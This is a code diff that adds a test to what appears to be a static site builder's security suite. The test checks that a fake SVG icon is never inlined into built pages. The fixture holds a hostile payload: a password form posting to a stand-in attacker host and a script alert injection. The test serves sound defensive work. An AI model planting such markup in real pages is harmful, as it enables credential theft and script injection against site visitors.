@@ -57,6 +57,17 @@ describe('a content file runs no code', () => {
     expect(existsSync(pwned)).toBe(false);
     expect(existsSync(join(box.dir, 'dist'))).toBe(false);
   });
+  test('an icon file that is not an SVG document is never pasted into a page: the icon shows nothing', async () => {
+    box = sandbox();
+    // No <svg> root: the sprite skips it, and the page must not carry the file's markup either.
+    writeFileSync(join(box.content, 'images/icons/map.svg'), '<form action="https://attacker.example/"><input name="password"></form><script>alert(1)</script>');
+    const builder = new Builder({ root, contentDir: box.content, mode: 'production', includeDrafts: false });
+    const outputs = await builder.full();
+    const pages = [...outputs].filter(([file]) => file.endsWith('.html')).map(([, bytes]) => bytes.toString('utf8'));
+    expect(pages.length).toBeGreaterThan(10);
+    expect(pages.some((html) => html.includes('#icons-fuel'))).toBe(true);
+    expect(pages.filter((html) => html.includes('attacker.example') || html.includes('alert(1)'))).toEqual([]);
+  });
 });
 
 describe('content stays inside content/', () => {
